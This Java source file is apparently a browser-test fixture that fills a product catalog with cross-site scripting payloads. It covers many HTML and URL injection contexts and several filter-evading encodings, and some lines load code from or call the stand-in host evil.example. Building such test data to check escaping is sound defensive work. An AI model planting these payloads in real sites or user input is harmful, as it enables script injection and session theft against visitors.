package io.likewire.system.browser;

import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** Titles and addresses of pictures that would run something in a careless page: every context in every encoding. */
final class Payloads {
    static final String EVIL = "evil.example";
    static final String PICTURES = "pictures.example";
    private static final List<String> ACTIONS = List.of(
            "alert(1)", "prompt(document.domain)", "confirm`1`", "fetch('//evil.example/')", "top['al'+'ert'](1)");
    private static final List<String> IN_TEXT = List.of(
            "<script>%s</script>",
            "<script src=//evil.example/x.js></script>%s",
            "<img src=x onerror=%s>",
            "<svg onload=%s>",
            "<svg><animate onbegin=%s attributeName=x dur=1s>",
            "\"><img src=//evil.example/x.png onerror=%s>",
            "'/onmouseover=%s/autofocus/onfocus=%s/x='",
            "\" onclick=%s tabindex=1 x=\"",
            "--><script>%s</script><!--",
            "</h2></template></style></title><script>%s</script>",
            "<iframe srcdoc='<script>%s</script>'>",
            "<iframe src=javascript:%s>",
            "<a href=javascript:%s>x</a>",
            "<form action=javascript:%s><button autofocus>x",
            "<details open ontoggle=%s>",
            "<object data=//evil.example/x.swf onerror=%s>",
            "<base href=//evil.example/><script>%s</script>",
            "<meta http-equiv=refresh content='0;url=//evil.example/?%s'>",
            "<link rel=stylesheet href=//evil.example/x.css onload=%s>",
            "<style>@import'//evil.example/x.css';</style>%s",
            "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
            "<slot></slot><template shadowrootmode=open><script>%s</script></template>",
            "{{constructor.constructor('%s')()}}",
            "${%s}<?lit$1$><!--lit-part--> @click=${%s}");
    private static final List<String> IN_ADDRESSES = List.of(
            "javascript:%s",
            "data:text/html,<script>%s</script>",
            "vbscript:%s",
            "//evil.example/x.png?%s",
            "/x.png\" onerror=\"%s",
            "/x.png' onerror='%s",
            "/x.png><script>%s</script>",
            "/x.png#javascript:%s",
            "/\\evil.example/%s",
            "https://pictures.example/x.png\" onerror=\"%s",
            "https://pictures.example/x.svg?<script>%s</script>",
            "https://evil.example@pictures.example/%s");
    private static final List<UnaryOperator<String>> ENCODINGS = List.of(
            text -> text,
            text -> text.toUpperCase(Locale.ROOT),
            text -> each(text, c -> "&#" + (int) c + ";"),
            text -> each(text, c -> "&#x" + Integer.toHexString(c)),
            text -> each(text, c -> "%" + HexFormat.of().toHexDigits((byte) c)),
            text -> each(text, c -> "\\u00" + HexFormat.of().toHexDigits((byte) c)),
            text -> text.replace("<", "\uff1c").replace(">", "\uff1e").replace("\"", "\uff02"),
            text -> text.replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;"),
            text -> text.replace("<", "<\u00a0").replace("=", "\u2028=").replace("script", "scr<b>ipt"));

    private Payloads() {}

    private interface Spelling {
        String of(char c);
    }

    /** Only what has a meaning is encoded, so that the whole stays short. */
    private static String each(String text, Spelling spelling) {
        return text.chars()
                .mapToObj(c -> "<>\"'=:/(".indexOf(c) < 0 ? String.valueOf((char) c) : spelling.of((char) c))
                .collect(Collectors.joining());
    }

    static List<JsonObject> products() {
        List<String> titles =
                combined(IN_TEXT).filter(text -> text.length() <= 200).toList();
        List<String> pictures = combined(IN_ADDRESSES).toList();
        List<JsonObject> products = new ArrayList<>();
        titles.forEach(title -> products.add(product(title, "/images/tea.svg")));
        pictures.forEach(picture -> products.add(product("Picture", picture)));
        return products;
    }

    private static JsonObject product(String title, String picture) {
        return new JsonObject().put("title", title).put("image", picture).put("description", title);
    }

    private static Stream<String> combined(List<String> contexts) {
        List<String> all = new ArrayList<>();
        for (String context : contexts) {
            for (UnaryOperator<String> encoding : ENCODINGS) {
                String action = ACTIONS.get(all.size() % ACTIONS.size());
                all.add(encoding.apply(context.replace("%s", action)));
            }
        }
        return all.stream().distinct();
    }

    /** For an address. */
    static String escaped(String text) {
        StringBuilder escaped = new StringBuilder();
        for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
            escaped.append('%').append(HexFormat.of().toHexDigits(b));
        }
        return escaped.toString();
    }
}
